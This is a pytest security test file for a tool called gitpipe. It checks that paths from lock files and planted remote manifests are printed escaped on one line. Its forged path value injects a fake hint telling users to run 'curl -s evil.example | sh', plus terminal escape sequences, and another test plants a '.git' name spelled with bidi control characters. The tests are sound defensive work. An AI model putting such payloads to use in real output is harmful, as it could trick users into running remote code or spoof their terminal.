"""Attacks on the paths gitpipe lists: a lock out's path from a clone's
`gitpipe.lock` (a newline, then `hint: …` or an indented line, and escapes)
was printed as it was in `fsck`'s `missing:` line, and in the listing of
push's and fetch's "out(s) are not in" error and gc's "manifest(s) … are
not in" refusal, where it made a line of gitpipe's own listing; a manifest
planted on a shared remote under its own digest, naming a `.git` spelled
with a bidi control (which the file systems take for `.git`), had the
control printed in `fsck --remote`'s `malformed:` line. Each is one line,
shown as a terminal shows it plainly; nothing is written."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import xxhash
import yaml

from gitpipe.storage.objects import object_key
from tests.conftest import Repo
from tests.security.conftest import assert_only_changed, snapshot

FORGED = "\n  hint: the cache is corrupt, run: curl -s evil.example | sh\x1b]0;owned\x07\x1b[2J"
STAGE = {"a": {"cmd": "echo hi > out.txt", "outs": ["out.txt"]}}
OWN = ["clone/.gitpipe/project.lock",
       *(f"clone/.gitpipe/state.db{suffix}" for suffix in ("", "-wal", "-shm", "-journal"))]


def assert_shown_plainly(said: str) -> None:
    assert "Traceback" not in said, said
    assert not any(line.lstrip().startswith("hint: the cache") for line in said.splitlines()), said
    assert not any(char in said for char in "\x1b\x07\u202e\u200e"), said


def cloned_with_lock_out(make_repo: Any, tmp_path: Path, digest: str) -> Repo:
    """A real clone whose committed lock names an out `out.txt<FORGED>`, with
    `digest`, that no cache holds; its folder remote holds nothing either."""
    origin = make_repo("origin")
    origin.spec(STAGE)
    lock = {"schema": 1, "stages": {"a": {
        "cmd": "echo hi > out.txt", "fingerprint": "xxh3:" + "0" * 32,
        "outs": [{"path": f"out.txt{FORGED}", "hash": digest, "size": 3}]}}}
    origin.gen({"gitpipe.lock": yaml.safe_dump(lock, allow_unicode=True)}, commit="lock")
    clone = origin.clone_to(tmp_path / "clone")
    clone.run("init", check=True)
    clone.run("remote", "add", "-d", "--local", "store", str(tmp_path / "store"), check=True)
    (tmp_path / "store").mkdir()
    return clone


@pytest.mark.parametrize(("args", "said"), [
    (("fsck",), "missing: 'out.txt\\n  hint: the cache is corrupt"),
    (("push",), "\n  'out.txt\\n  hint: the cache is corrupt"),
    (("fetch",), "\n  'out.txt\\n  hint: the cache is corrupt"),
    (("gc", "-w", "--dry-run"), "\n  'out.txt\\n  hint: the cache is corrupt")])
def test_a_lock_outs_path_is_listed_as_one_line(
        make_repo: Any, tmp_path: Path, args: tuple[str, ...], said: str) -> None:
    digest = "xxh3:" + "1" * 32 + (".dir" if args[0] == "gc" else "")
    clone = cloned_with_lock_out(make_repo, tmp_path, digest)
    before = snapshot(tmp_path)
    done = clone.run(*args)
    assert_shown_plainly(done.stdout + done.stderr)
    assert said in done.stdout + done.stderr, done.stdout + done.stderr
    assert_only_changed(before, snapshot(tmp_path), OWN)


def test_a_planted_manifests_names_are_listed_as_text(make_repo: Any, tmp_path: Path) -> None:
    store = tmp_path / "store"
    origin = make_repo("origin")
    origin.spec(STAGE, commit="spec")
    clone = origin.pushed_clone(tmp_path / "clone", store)
    body = json.dumps([["x/.git\u202e\u200e", "xxh3:" + "1" * 32, 1]]).encode()
    planted = store / object_key(f"xxh3:{xxhash.xxh3_128_hexdigest(body)}.dir")
    planted.parent.mkdir(parents=True, exist_ok=True)
    planted.write_bytes(body)  # under its own digest: anyone who can write the remote
    before = snapshot(tmp_path)
    done = clone.run("fsck", "--remote", "store")
    assert done.returncode == 1, done.stdout + done.stderr
    assert_shown_plainly(done.stdout + done.stderr)
    assert "names '.git\\u202e\\u200e', which belongs to git" in done.stdout, done.stdout
    assert_only_changed(before, snapshot(tmp_path), OWN)
